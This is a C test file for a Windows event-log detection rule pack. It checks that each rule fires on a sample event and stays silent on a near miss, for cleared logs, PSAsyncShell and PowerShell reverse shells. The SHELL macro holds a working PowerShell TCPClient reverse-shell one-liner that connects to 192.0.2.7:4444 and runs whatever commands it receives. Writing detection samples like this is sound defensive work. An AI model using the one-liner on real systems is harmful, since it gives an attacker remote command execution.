/* SPDX-License-Identifier: Apache-2.0 */
/* The shipped rules: each is ready, says all there is to say, fires on its sample and is silent on a near miss. */
#include "tests/sigma_help.h"

#define POSH "Microsoft-Windows-PowerShell/Operational"
#define CLASSIC "Windows PowerShell"
#define SHELL "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.7',4444);$s = $c.GetStream();" \
	"while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$r = (iex $d 2>&1);$s.Write($r,0,$r.Length)}"
#define PROBE "$c = New-Object Net.Sockets.TcpClient; $c.Connect('mail.example.org', 25); $c.Connected"
#define SENDER "$c = New-Object Net.Sockets.TcpClient('log.example.org', 514); $s = $c.GetStream(); " \
	"$s.Write($b, 0, 9); $n = $s.Read($b, 0, 9)"
#define CHANNEL "$c = [Net.Sockets.TcpClient]::new('192.0.2.7', 53); $r = [IO.StreamReader]$s; $w = [IO.StreamWriter]$s; " \
	"$l = $r.ReadLine(); $w.WriteLine($t); [Array]::Reverse($a); "

static const struct {
	const char *file; /* below rules/, without .yml */
	const char *channel;
	uint32_t id;
	struct help_field fires[HELP_FIELDS], silent[HELP_FIELDS];
} samples[] = {
	{ "command-and-control/psasyncshell_markers_script_block", POSH, 4104,
		{ { "ScriptBlockText", "function r64encoder { }\nSendChunk $x" } },
		{ { "ScriptBlockText", "function SendChunk { }" } } },
	{ "command-and-control/psasyncshell_name_command_line", "Security", 4688,
		{ { "CommandLine", "powershell -f C:\\t\\psasyncshell.ps1" } }, { { "CommandLine", "powershell -f a.ps1" } } },
	{ "command-and-control/psasyncshell_name_engine_start", CLASSIC, 400,
		{ { "Data", "Available" }, { "Data", "HostApplication=powershell -f PSAsyncShell.ps1" } },
		{ { "Data", "HostApplication=powershell" } } },
	{ "command-and-control/psasyncshell_name_module_log", POSH, 4103,
		{ { "ContextInfo", "Host Application = x" }, { "Payload", "CommandInvocation(PSAsyncShell)" } },
		{ { "Payload", "CommandInvocation(Get-Item)" } } },
	{ "command-and-control/psasyncshell_name_pipeline_details", CLASSIC, 800,
		{ { "HostApplication", "powershell PSASYNCSHELL" } }, { { "HostApplication", "powershell" } } },
	{ "command-and-control/psasyncshell_name_script_block", POSH, 4104,
		{ { "ScriptBlockText", "# PSAsyncShell" } }, { { "ScriptBlockText", "# PS Async Shell" } } },
	{ "command-and-control/psasyncshell_structure_script_block", POSH, 4104,
		{ { "ScriptBlockText", CHANNEL "$x = $x.Replace('+', '-')" } },
		{ { "ScriptBlockText", CHANNEL "$x = $x.Replace('a', 'b')" } } },
	{ "defense-evasion/event_log_cleared", "System", 104,
		{ { "Provider_Name", "Microsoft-Windows-Eventlog" } },
		{ { "Provider_Name", "Other" } } },
	{ "defense-evasion/log_headers_denied", "evtriage/log", 0,
		{ { "Fact", "header-range" } },
		{ { "Fact", "record-gap" } } },
	{ "defense-evasion/log_hidden_record", "evtriage/log", 0,
		{ { "Fact", "hidden-record" }, { "GapBytes", "96" } },
		{ { "Fact", "checksum" } } },
	{ "defense-evasion/log_record_numbers_broken", "evtriage/log", 0,
		{ { "Fact", "record-gap" }, { "Closed", "true" }, { "Renumbered", "false" } },
		{ { "Fact", "record-gap" }, { "Closed", "false" }, { "Renumbered", "false" } } },
	{ "defense-evasion/log_record_numbers_broken_open", "evtriage/log", 0,
		{ { "Fact", "record-repeat" }, { "Closed", "false" }, { "Renumbered", "false" } },
		{ { "Fact", "record-repeat" }, { "Closed", "true" }, { "Renumbered", "false" } } },
	{ "defense-evasion/log_time_backwards", "evtriage/log", 0,
		{ { "Fact", "time-backwards" }, { "SecondsBack", "7200" } },
		{ { "Fact", "time-backwards" }, { "SecondsBack", "60" } } },
	{ "defense-evasion/security_log_cleared", "Security", 1102,
		{ { "Provider_Name", "Microsoft-Windows-Eventlog" } },
		{ { "Provider_Name", "Other" } } },
	{ "execution/tcp_shell_structure_command_line", "Microsoft-Windows-Sysmon/Operational", 1,
		{ { "CommandLine", "powershell -c " SHELL } }, { { "CommandLine", "powershell -c " SENDER } } },
	{ "execution/tcp_shell_structure_script_block", POSH, 4104,
		{ { "ScriptBlockText", SHELL } }, { { "ScriptBlockText", SENDER } } },
	{ "execution/tcpclient_reverse_shell_command_line", "Security", 4688,
		{ { "CommandLine", "powershell -c " SHELL } }, { { "CommandLine", "powershell -c " PROBE } } },
	{ "execution/tcpclient_reverse_shell_engine_start", CLASSIC, 400,
		{ { "Data", "HostApplication=powershell -c " SHELL } }, { { "Data", "HostApplication=powershell -c " PROBE } } },
	{ "execution/tcpclient_reverse_shell_module_log", POSH, 4103,
		{ { "ContextInfo", "Host Application = powershell " SHELL }, { "Payload", "" } },
		{ { "ContextInfo", "Host Application = powershell " PROBE }, { "Payload", "" } } },
	{ "execution/tcpclient_reverse_shell_pipeline_details", CLASSIC, 800,
		{ { "Data", SHELL } }, { { "Data", PROBE } } },
	{ "execution/tcpclient_reverse_shell_script_block", "PowerShellCore/Operational", 4104,
		{ { "ScriptBlockText", SHELL } }, { { "ScriptBlockText", PROBE } } },
};

static struct ruleset *
one_file(const char *name)
{
	struct ruleset *set = ruleset_new();
	struct slice file, text;
	struct err err = { 0 };
	char want[256];

	snprintf(want, sizeof(want), "%s.yml", name);
	for (size_t i = 0; ruleset_pack_file(i, &file, &text); i++)
		if (slice_eq(file, slice_from_text(want)))
			ck_assert(ruleset_add_text(set, file, text, &err));
	ck_assert_msg(ruleset_count(set) == 1, "%s is not in the pack", name);
	ck_assert(ruleset_close(set, &err));
	return set;
}

START_TEST(rule_fires_and_is_silent)
{
	struct ruleset *set = one_file(samples[_i].file);
	struct help_event e;

	help_event_make(&e, samples[_i].fires, samples[_i].channel, samples[_i].id);
	ck_assert_msg(help_run(set, &e.event).verdict == VERDICT_MATCH, "%s does not fire", samples[_i].file);
	help_event_make(&e, samples[_i].silent, samples[_i].channel, samples[_i].id);
	ck_assert_msg(help_run(set, &e.event).told == 0, "%s is not silent", samples[_i].file);
	help_event_make(&e, samples[_i].fires, "Setup", samples[_i].id);
	ck_assert_msg(help_run(set, &e.event).told == 0, "%s fires in another log", samples[_i].file);
	ruleset_free(set);
}
END_TEST

START_TEST(rules_say_everything)
{
	struct ruleset *set = ruleset_new();
	struct err err = { 0 };

	ck_assert(ruleset_add_default(set, &err));
	ck_assert(ruleset_close(set, &err));
	ck_assert_uint_eq(ruleset_count(set), ARRAY_LEN(samples));
	for (size_t i = 0; i < ruleset_count(set); i++) {
		const struct rule *r = ruleset_rule(set, i);
		char file[256];

		snprintf(file, sizeof(file), "builtin:%s.yml", samples[i].file);
		ck_assert_msg(slice_eq(r->file, slice_from_text(file)), "%.*s has no sample", SLICE_ARGS(r->file));
		ck_assert_msg(r->state == RULE_READY, "%s: %s", file, r->reason);
		ck_assert_msg(r->title.len && r->id.len && r->description.len && r->status.len, "%s", file);
		ck_assert_msg(slice_eq(r->author, SLICE("evtriage")) && r->date.len == 10, "%s", file);
		ck_assert_msg(r->note.len && r->level >= LEVEL_INFORMATIONAL, "%s", file);
		ck_assert_msg(r->tactics.len && r->techniques.len, "%s", file);
		ck_assert_msg(r->references.count && r->false_positives.count, "%s", file);
		ck_assert_msg(slice_eq(r->product, SLICE("windows")), "%s", file);
	}
	ruleset_free(set);
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("pack");
	TCase *tc = tcase_create("pack");

	tcase_add_loop_test(tc, rule_fires_and_is_silent, 0, (int)ARRAY_LEN(samples));
	tcase_add_test(tc, rules_say_everything);
	suite_add_tcase(s, tc);
	return help_main(s);
}
